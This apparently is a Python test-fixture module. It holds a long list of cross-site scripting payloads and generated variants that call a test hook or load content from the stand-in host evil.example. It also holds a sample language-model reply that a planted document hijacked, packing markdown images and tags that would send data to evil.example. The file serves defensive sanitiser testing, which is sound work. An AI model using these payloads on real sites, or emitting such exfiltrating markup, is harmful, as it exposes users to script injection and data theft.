"""Texts that would run a script, or fetch something from elsewhere, on a page that took them for markup.

Each calls ``xss(…)``, which the browser of a test reports, or names ``evil.example``.
"""

from __future__ import annotations

from itertools import product

BY_HAND = (
    "<script>xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>xss(2)</scr</script>ipt>",
    "</title><script>xss(3)</script>",
    "</textarea><script>xss(4)</script>",
    "</script><script>xss(5)</script>",
    "--><script>xss(6)</script>",
    "]]><script>xss(7)</script>",
    "<img src=x onerror=xss(8)>",
    "<img src=x onerror=&#120;ss(9)>",
    "<IMG SRC=/ oNeRrOr = xss(10) >",
    "<img/src=x/onerror=xss(11)>",
    "<img src=\"x\" onerror='xss(12)'//",
    '"><img src=x onerror=xss(13)>',
    "'><img src=x onerror=xss(14)>",
    '" autofocus onfocus=xss(15) x="',
    "' autofocus onfocus=xss(16) x='",
    "` onmouseover=xss(17) `",
    "<svg onload=xss(18)>",
    "<svg><script>xss(19)</script></svg>",
    "<svg><animate onbegin=xss(20) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss(21)><text y=20>x</text></a>",
    "<math><mi//xlink:href=javascript:xss(22)>",
    "<body onload=xss(23)>",
    "<iframe src=javascript:xss(24)></iframe>",
    "<iframe srcdoc='<script>parent.xss(25)</script>'></iframe>",
    "<iframe src=https://evil.example/frame></iframe>",
    "<object data=javascript:xss(26)></object>",
    "<embed src=https://evil.example/e.swf>",
    "<details open ontoggle=xss(27)>",
    "<video><source onerror=xss(28)></video>",
    "<audio src=x onerror=xss(29)>",
    "<input autofocus onfocus=xss(30)>",
    "<marquee onstart=xss(31)>x</marquee>",
    "<a href=javascript:xss(32)>read on</a>",
    '<a href="java\tscript:xss(33)">read on</a>',
    "<form action=https://evil.example/><button>go on</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import url(https://evil.example/i.css);</style>",
    "<div style=background:url(https://evil.example/b.png)>x</div>",
    "<p hx-get=/ hx-trigger=load hx-on:load=xss(34)>x</p>",
    "<div x-data x-init=xss(35)>x</div>",
    "{{constructor.constructor('xss(36)')()}}",
    "{% debug %}{{ 7|safe }}<b onclick=xss(37)>x</b>",
    "![a](https://evil.example/inline.png?q=42)",
    "![b][r]\n\n[r]: https://evil.example/reference.png",
    "[read on](javascript:xss(38))",
    "&lt;img src=x onerror=xss(39)&gt;",
    "\u003cimg src=x onerror=xss(40)\u003e",
    "＜script＞xss(41)＜/script＞",
    "<template shadowrootmode=open><img src=x onerror=xss(42)></template>",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "video src=x",
    "details open",
    "iframe",
    "a href=#",
    "p tabindex=0",
)
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
_BEFORE = ("", '">', "'>", "--></title></textarea></script>")


def everyday() -> list[str]:
    return list(BY_HAND)


def full() -> list[str]:
    """The same and what can be put together: more than two hundred."""
    made = (
        f"{before}<{tag} {event}=xss({100 + number})>"
        for number, (before, tag, event) in enumerate(product(_BEFORE, _TAGS, _EVENTS))
    )
    return [*BY_HAND, *made]


def model_output() -> str:
    """A language model that was told by a document to send words away. One sentence of it rests on a source."""
    return (
        "The warranty of the Heron pump is 42 months from the day of delivery [1]. "
        "![x](https://evil.example/a.png?q=42) ![y][ref] <img src=https://evil.example/b.png> "
        "<iframe src=https://evil.example/c></iframe> <style>body{background:url(https://evil.example/d)}</style> "
        "<link rel=prefetch href=https://evil.example/e> <script src=https://evil.example/f.js></script> "
        "[click](https://evil.example/g?q=42) <a href=https://evil.example/h ping=https://evil.example/i>h</a> "
        "<svg><image href=https://evil.example/j /></svg> <video poster=https://evil.example/k></video> "
        "<img src=x onerror=xss(999)>\n\n[ref]: https://evil.example/l.png\n"
    )
